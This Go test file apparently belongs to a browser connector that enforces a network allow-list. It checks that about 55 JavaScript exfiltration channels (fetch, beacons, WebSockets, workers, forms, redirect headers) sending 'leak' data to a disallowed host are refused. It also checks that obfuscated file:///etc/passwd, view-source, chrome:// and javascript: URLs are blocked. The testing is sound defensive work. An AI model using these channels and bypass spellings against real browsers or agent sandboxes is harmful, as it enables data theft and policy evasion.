package attacks

import (
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"slices"
	"strings"
	"sync"
	"testing"
	"time"

	"connector-browser/launcher/launchtest"
)

// hostile is a web site that the policy allows, with pages that lead elsewhere.
type hostile struct {
	*httptest.Server
	mu   sync.Mutex
	seen []string // what was asked for
}

// newHostile serves, below /go/, an answer that sends the browser on to the URL
// in its query by one of HTTP's own means.
func newHostile(t *testing.T) *hostile {
	h := &hostile{}
	h.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		h.mu.Lock()
		h.seen = append(h.seen, r.URL.Path)
		h.mu.Unlock()
		to := r.URL.Query().Get("to")
		switch r.URL.Path {
		case "/go/location":
			w.Header().Set("Location", to)
			w.WriteHeader(http.StatusFound)
			return
		case "/go/refresh":
			w.Header().Set("Refresh", "0; url="+to)
		case "/go/link":
			w.Header().Set("Link", "<"+to+">; rel=preload; as=image, <"+to+">; rel=preconnect")
		case "/go/report":
			w.Header().Set("Content-Security-Policy", "img-src 'none'; report-uri "+to)
			w.Header().Set("Content-Type", "text/html")
			io.WriteString(w, `<img src=/x.png>`)
			return
		case "/go/alt":
			w.Header().Set("Alt-Svc", fmt.Sprintf(`h3="%s"; ma=3600, h2="%s"; ma=3600`, to, to))
		case "/worker.js":
			w.Header().Set("Content-Type", "text/javascript")
			io.WriteString(w, `onmessage = async e => { const got = []; for (const f of [() => fetch(e.data), () => importScripts(e.data), () => new WebSocket(e.data.replace("http", "ws"))]) try { await f() } catch (e) { got.push("" + e) } postMessage(got) }`)
			return
		}
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, `<title>allowed</title><body>allowed</body>`)
	}))
	t.Cleanup(h.Close)
	return h
}

// ways are how a page can make a browser speak to a host. Each is the body of a
// function that is given url, an address at a host of its own that the policy does
// not allow, and site, the page's own address.
var ways = map[string]string{
	"fetch":                   `await fetch(url).catch(() => 0)`,
	"fetch no-cors":           `await fetch(url, {mode: "no-cors", method: "POST", body: "leak"}).catch(() => 0)`,
	"fetch keepalive":         `await fetch(url, {keepalive: true, method: "POST", mode: "no-cors", body: "leak"}).catch(() => 0)`,
	"XMLHttpRequest":          `await new Promise(done => { const x = new XMLHttpRequest(); x.onloadend = done; x.open("GET", url); x.send() })`,
	"sendBeacon":              `navigator.sendBeacon(url, "leak")`,
	"EventSource":             `await new Promise(done => { const s = new EventSource(url); s.onerror = () => { s.close(); done() } })`,
	"WebSocket":               `await new Promise(done => { const s = new WebSocket(url.replace("http", "ws")); s.onerror = s.onclose = done })`,
	"WebSocket over TLS":      `await new Promise(done => { const s = new WebSocket(url.replace("http", "wss")); s.onerror = s.onclose = done })`,
	"TLS":                     `await fetch(url.replace("http", "https"), {mode: "no-cors"}).catch(() => 0)`,
	"image":                   `await new Promise(done => { const i = new Image(); i.onerror = i.onload = done; i.src = url })`,
	"image set":               `document.body.insertAdjacentHTML("beforeend", "<picture><source srcset='" + url + "'><img></picture>")`,
	"audio":                   `const a = new Audio(url); a.play().catch(() => 0)`,
	"video and its poster":    `document.body.insertAdjacentHTML("beforeend", "<video autoplay src='" + url + "' poster='" + url + "'></video>")`,
	"script":                  `await new Promise(done => { const s = document.createElement("script"); s.onerror = s.onload = done; s.src = url; document.head.append(s) })`,
	"import":                  `await import(url).catch(() => 0)`,
	"style sheet":             `await new Promise(done => { const l = document.createElement("link"); l.rel = "stylesheet"; l.onerror = l.onload = done; l.href = url; document.head.append(l) })`,
	"style import":            `const s = document.createElement("style"); s.textContent = "@import url(" + url + ")"; document.head.append(s)`,
	"background":              `document.body.style.backgroundImage = "url(" + url + ")"`,
	"font":                    `await new FontFace("f", "url(" + url + ")").load().catch(() => 0)`,
	"iframe":                  `const f = document.createElement("iframe"); f.src = url; document.body.append(f)`,
	"iframe srcdoc":           `const f = document.createElement("iframe"); f.srcdoc = "<img src='" + url + "'>"; document.body.append(f)`,
	"object and embed":        `document.body.insertAdjacentHTML("beforeend", "<object data='" + url + "'></object><embed src='" + url + "'>")`,
	"SVG":                     `document.body.insertAdjacentHTML("beforeend", "<svg><image href='" + url + "' width=9 height=9></image></svg>")`,
	"icon":                    `const l = document.createElement("link"); l.rel = "icon"; l.href = url; document.head.append(l); await new Promise(done => setTimeout(done, 300))`,
	"manifest":                `const l = document.createElement("link"); l.rel = "manifest"; l.href = url; document.head.append(l); await new Promise(done => setTimeout(done, 300))`,
	"prefetch":                `const l = document.createElement("link"); l.rel = "prefetch"; l.href = url; document.head.append(l)`,
	"preload":                 `const l = document.createElement("link"); l.rel = "preload"; l.as = "image"; l.href = url; document.head.append(l)`,
	"module preload":          `const l = document.createElement("link"); l.rel = "modulepreload"; l.href = url; document.head.append(l)`,
	"preconnect":              `const l = document.createElement("link"); l.rel = "preconnect"; l.href = url; document.head.append(l)`,
	"preconnect over TLS":     `const l = document.createElement("link"); l.rel = "preconnect"; l.href = url.replace("http", "https"); document.head.append(l); await new Promise(done => setTimeout(done, 300))`,
	"DNS prefetch":            `const l = document.createElement("link"); l.rel = "dns-prefetch"; l.href = url; document.head.append(l)`,
	"prerender":               `const l = document.createElement("link"); l.rel = "prerender"; l.href = url; document.head.append(l)`,
	"speculation rules":       `const s = document.createElement("script"); s.type = "speculationrules"; s.textContent = JSON.stringify({prefetch: [{source: "list", urls: [url], eagerness: "immediate"}], prerender: [{source: "list", urls: [url], eagerness: "immediate"}]}); document.head.append(s); await new Promise(done => setTimeout(done, 300))`,
	"worker":                  `await new Promise(done => { const w = new Worker("/worker.js"); w.onmessage = w.onerror = done; w.postMessage(url) })`,
	"shared worker":           `const w = new SharedWorker("data:text/javascript,fetch('" + url + "')"); await new Promise(done => setTimeout(done, 300))`,
	"service worker":          `await navigator.serviceWorker.register("/worker.js?" + url).catch(() => 0); await navigator.serviceWorker.register(url).catch(() => 0)`,
	"worklet":                 `await CSS.paintWorklet?.addModule(url).catch(() => 0)`,
	"window.open":             `window.open(url)`,
	"window.open with opener": `window.open(url, "_blank", "noopener,noreferrer")`,
	"link in a new tab":       `const a = document.createElement("a"); a.href = url; a.target = "_blank"; document.body.append(a); a.click()`,
	"ping":                    `const a = document.createElement("a"); a.href = "#"; a.ping = url; document.body.append(a); a.click()`,
	"download":                `const a = document.createElement("a"); a.href = url; a.download = "x"; document.body.append(a); a.click()`,
	"form into a frame":       `document.body.insertAdjacentHTML("beforeend", "<iframe name=f></iframe><form target=f method=post action='" + url + "'><input name=leak value=1></form>"); document.forms[document.forms.length - 1].submit()`,
	"redirect":                `await fetch("/go/location?to=" + encodeURIComponent(url), {mode: "no-cors"}).catch(() => 0)`,
	"redirect in a frame":     `const f = document.createElement("iframe"); f.src = "/go/location?to=" + encodeURIComponent(url); document.body.append(f)`,
	"Link header":             `const f = document.createElement("iframe"); f.src = "/go/link?to=" + encodeURIComponent(url); document.body.append(f)`,
	"policy report":           `const f = document.createElement("iframe"); f.src = "/go/report?to=" + encodeURIComponent(url); document.body.append(f); await new Promise(done => setTimeout(done, 300))`,
	"Alt-Svc":                 `const at = new URL(url).host; for (let n = 0; n < 3; n++) await fetch("/go/alt?to=" + at)`,
	"WebTransport":            `try { const w = new WebTransport(url.replace("http", "https")); await w.ready } catch {}`,
	"payment":                 `try { await new PaymentRequest([{supportedMethods: url}], {total: {label: "x", amount: {currency: "EUR", value: "1"}}}).canMakePayment() } catch {}`,
	// These leave the page.
	"location":         `location.href = url`,
	"location.replace": `location.replace(url)`,
	"refresh":          `document.head.insertAdjacentHTML("beforeend", "<meta http-equiv=refresh content='0;url=" + url + "'>"); await new Promise(done => setTimeout(done, 300))`,
	"Refresh header":   `location.href = "/go/refresh?to=" + encodeURIComponent(url)`,
	"redirected away":  `location.href = "/go/location?to=" + encodeURIComponent(url)`,
	"form":             `document.body.insertAdjacentHTML("beforeend", "<form method=post action='" + url + "'><input name=leak value=1></form>"); document.forms[0].submit()`,
}

// silent are the ways that this browser does not go at all, or not through
// anything that could say so: nothing arrives, and there is nothing to tell.
var silent = []string{
	"Alt-Svc", "DNS prefetch", "WebTransport", "icon", "manifest", "payment", "preconnect", "preconnect over TLS", "prerender", "service worker", "speculation rules",
}

// TestPage has a page of an allowed site try everything that the web knows to
// reach a host that is not allowed, and to open what no page may.
func TestPage(t *testing.T) {
	trap := newTrap(t)
	site := newHostile(t)
	conf := launchtest.New(t).Auth("", false).Policy(allow(site.Server))
	l := start(t, conf, io.Discard)
	l.Does("browser_navigate", launchtest.Arguments{"url": site.URL})

	for n, name := range keys(ways) {
		l.Step(name, func(t *testing.T) {
			evil := fmt.Sprintf("127.1.%d.%d:%d", n/200, n%200+1, trap.port)
			text := l.Tool("browser_evaluate", launchtest.Arguments{"function": `async () => { const url = "http://` + evil + `/leak", site = "` + site.URL + `"; ` + ways[name] + `; return 1 }`}).Text()
			want := "refused by connector-browser: " + evil + " is not in network.allow (policy.toml:2)"
			told := launchtest.Within(3*time.Second, func() bool {
				if !strings.Contains(text, evil+" is") {
					text += l.Tool("browser_evaluate", launchtest.Arguments{"function": "() => 0"}).Text()
				}
				return strings.Contains(text, evil+" is") || slices.Contains(silent, name)
			})
			if !told || strings.Contains(text, evil+" is") && !strings.Contains(text, want) && !strings.Contains(text, strings.TrimPrefix(want, "refused by connector-browser: ")) {
				t.Errorf("the refusal is not told: %s", text)
			}
			if !strings.Contains(text, evil+" is") {
				t.Log("not tried by this browser")
			}
			l.home(site.URL)
		})
	}
	trap.empty(t)

	l.pageSchemes(site.URL)
	trap.empty(t)
	l.leaves(waiting)
}

// home closes what was opened and shows the allowed page again.
func (l *launch) home(url string) {
	l.t.Helper()
	for range 3 {
		answer := l.Tool("browser_tabs", launchtest.Arguments{"action": "list"})
		if !strings.Contains(answer.Text(), "- 1:") {
			break
		}
		l.Tool("browser_tabs", launchtest.Arguments{"action": "close", "index": 1})
	}
	for range 3 { // where the page still leaves on its own, one navigation interrupts the other
		if !l.Tool("browser_navigate", launchtest.Arguments{"url": url}).IsError() {
			return
		}
	}
	l.t.Fatal("the allowed page does not come back")
}

// pageSchemes open what is no web page, in every spelling: by the tools that
// take an address, and by pages.
func (l *launch) pageSchemes(site string) {
	refused := []string{
		"file:///etc/passwd", "FILE:///etc/passwd", "fIlE:/etc/passwd", "file:etc/passwd", " file:///etc/passwd", "\tfile:///etc/passwd", "fi\tle:///etc/passwd", "fi\nle:///etc/passwd",
		"file:\\\\\\etc\\passwd", "\x00file:///etc/passwd", "\x1ffile:///etc/passwd", "file://localhost/etc/passwd", "file://127.0.0.1/etc/passwd",
		"view-source:file:///etc/passwd", "VIEW-SOURCE:file:///etc/passwd", "view-source:view-source:file:///etc/passwd", "view-source:" + site, "view-source:chrome://version",
		"chrome://version", "Chrome://settings", "chrome:version", "chrome-error://chromewebdata/", "chrome-extension://x/", "chrome-untrusted://print", "chrome-search://x", "chrome-native://x",
		"devtools://devtools/bundled/inspector.html", "devtools:x", "filesystem:" + site + "/temporary/x", "filesystem:file:///etc/passwd",
		"blob:" + site + "/x", "blob:null/x", "BLOB:x", "javascript:alert(1)", "JavaScript:%61", "java\tscript:1", "jar:file:///x", "about:version", "about:srcdoc", "about:", "ABOUT:gpu",
		"ftp://127.0.0.1/", "ws://127.0.0.1/", "wss://127.0.0.1/", "gopher://x/", "mailto:x@example.com", "tel:1", "intent://x", "content://x", "resource://x", "smb://x/y", "sftp://x", "ssh://x",
	}
	l.Step("schemes, by the tools", func(t *testing.T) {
		for _, url := range refused {
			for tool, arguments := range map[string]launchtest.Arguments{
				"browser_navigate": {"url": url}, "browser_tabs": {"action": "new", "url": url},
			} {
				if answer := l.Tool(tool, arguments); answer.Code() != "connector.forbidden_host" || !strings.Contains(answer.Line, "refused by connector-browser: ") {
					t.Errorf("%s %q: %.300s", tool, url, answer.Line)
				}
			}
		}
	})
	l.Step("schemes, by a page", func(t *testing.T) {
		l.home(site)
		for _, url := range []string{"file:///etc/passwd", "FILE:/etc/passwd", "view-source:file:///etc/passwd", "view-source:" + site, "chrome://version", "devtools://devtools/bundled/inspector.html", "filesystem:file:///etc/passwd", "data:text/html,top", "chrome-untrusted://x", "javascript:'planted'"} {
			for way, code := range map[string]string{
				"location":    `location.href = url`,
				"window.open": `const w = window.open(url); await new Promise(done => setTimeout(done, 100)); try { got = w.document.body.textContent } catch (e) { got = "" + e }`,
				"link":        `const a = document.createElement("a"); a.href = url; document.body.append(a); a.click()`,
				"frame":       `const f = document.createElement("iframe"); f.src = url; document.body.append(f); await new Promise(done => setTimeout(done, 100)); try { got = f.contentDocument.body.textContent } catch (e) { got = "" + e }`,
				"fetch":       `got = await fetch(url).then(r => r.text(), e => "" + e)`,
			} {
				if way == "fetch" && strings.HasPrefix(url, "data:") {
					continue // a page's own text, in another spelling
				}
				text := l.Tool("browser_evaluate", launchtest.Arguments{"function": `async () => { const url = ` + quote(url) + `; let got = ""; ` + code + `; return got }`}).Text()
				text += l.Tool("browser_snapshot", nil).Text()
				if strings.Contains(text, "browser:x:1000") || strings.Contains(text, "Page URL: file") || strings.Contains(text, "Page URL: view-source") || strings.Contains(text, "Page URL: data") || strings.Contains(text, "Command Line") {
					t.Errorf("%s by %s: %s", url, way, text)
				}
			}
			l.home(site)
		}
	})
}
